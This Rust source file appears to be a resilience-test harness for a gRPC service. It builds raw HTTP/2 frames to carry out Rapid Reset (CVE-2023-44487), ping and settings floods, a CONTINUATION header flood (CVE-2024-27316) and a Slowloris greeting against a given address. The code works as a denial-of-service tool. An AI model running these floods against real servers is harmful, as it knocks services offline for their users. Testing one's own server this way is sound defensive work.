//! Connections that mean no good, frame by frame (RFC 9113), since no client library would send such things.

use std::io;
use std::net::SocketAddr;
use std::time::Duration;

use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::TcpStream;
use tokio::net::tcp::{OwnedReadHalf, OwnedWriteHalf};
use tokio::time::timeout;

/// Only a server that never ends the connection meets it.
const PATIENCE: Duration = Duration::from_mins(1);
const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;
/// A message without fields, as gRPC frames it.
const EMPTY_MESSAGE: [u8; 5] = [0; 5];
const CANCEL: [u8; 4] = [0, 0, 0, 8];
/// Odd numbers are the client's.
const FIRST_STREAM: u32 = 1;

/// What is done to the server.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Attack {
    /// Calls that are cancelled as soon as they are made (CVE-2023-44487).
    RapidReset,
    /// Pings, each of which wants an answer.
    PingFlood,
    /// Settings, each of which wants an answer.
    SettingsFlood,
    /// Headers that never end (CVE-2024-27316).
    HeaderFlood,
    /// A greeting that never ends.
    SlowLoris,
}

impl Attack {
    pub(crate) const ALL: [Self; 5] = [
        Self::RapidReset,
        Self::PingFlood,
        Self::SettingsFlood,
        Self::HeaderFlood,
        Self::SlowLoris,
    ];

    /// Sends up to `most` frames, or none and only a part of the greeting, until the server ends the connection. How many were
    /// sent; all of them when the server never minded.
    pub(crate) async fn run(self, address: SocketAddr, most: u32) -> io::Result<u32> {
        let (reader, mut writer) = TcpStream::connect(address).await?.into_split();
        let ended = tokio::spawn(until_ended(reader));
        let sent = if self == Self::SlowLoris {
            writer.write_all(&PREFACE[..10]).await?;
            0
        } else {
            self.flood(&mut writer, most).await
        };
        if sent < most {
            timeout(PATIENCE, ended).await??;
        }
        Ok(sent)
    }

    async fn flood(self, writer: &mut OwnedWriteHalf, most: u32) -> u32 {
        let greeting = [PREFACE, &frame(SETTINGS, 0, 0, &[])].concat();
        if writer.write_all(&greeting).await.is_err() {
            return 0;
        }
        for sent in 0..most {
            if writer.write_all(&self.frames(sent)).await.is_err() {
                return sent;
            }
        }
        most
    }

    fn frames(self, sent: u32) -> Vec<u8> {
        let stream = FIRST_STREAM + 2 * sent;
        match self {
            Self::RapidReset => [
                frame(HEADERS, END_HEADERS, stream, &call()),
                frame(DATA, END_STREAM, stream, &EMPTY_MESSAGE),
                frame(RST_STREAM, 0, stream, &CANCEL),
            ]
            .concat(),
            Self::PingFlood => frame(PING, 0, 0, &[7; 8]),
            Self::SettingsFlood => frame(SETTINGS, 0, 0, &[]),
            Self::HeaderFlood if sent == 0 => frame(HEADERS, 0, FIRST_STREAM, &call()),
            Self::HeaderFlood => {
                let name = format!("x-{sent}");
                frame(
                    CONTINUATION,
                    0,
                    FIRST_STREAM,
                    &header(&name, &"x".repeat(1000)),
                )
            }
            Self::SlowLoris => Vec::new(),
        }
    }
}

async fn until_ended(mut reader: OwnedReadHalf) {
    let mut buffer = vec![0; 1 << 16];
    while reader.read(&mut buffer).await.is_ok_and(|read| read > 0) {}
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len())
        .unwrap_or(u32::MAX)
        .to_be_bytes();
    let mut frame = vec![length[1], length[2], length[3], kind, flags];
    frame.extend(stream.to_be_bytes());
    frame.extend(payload);
    frame
}

/// The headers of a call.
fn call() -> Vec<u8> {
    [
        (":method", "POST"),
        (":scheme", "http"),
        (":path", "/agb.gateway.v1.ContextService/ListContexts"),
        (":authority", "localhost"),
        ("te", "trailers"),
        ("content-type", "application/grpc"),
    ]
    .into_iter()
    .flat_map(|(name, value)| header(name, value))
    .collect()
}

/// A header as HPACK has it when nothing is compressed (RFC 7541, section 6.2.2).
fn header(name: &str, value: &str) -> Vec<u8> {
    let mut bytes = vec![0];
    for text in [name, value] {
        let length = text.len();
        if let Ok(short @ ..127) = u8::try_from(length) {
            bytes.push(short);
        } else {
            let mut rest = length - 127;
            bytes.push(127);
            while rest >= 128 {
                bytes.push(u8::try_from(rest % 128).unwrap_or_default() | 128);
                rest /= 128;
            }
            bytes.push(u8::try_from(rest).unwrap_or_default());
        }
        bytes.extend(text.as_bytes());
    }
    bytes
}
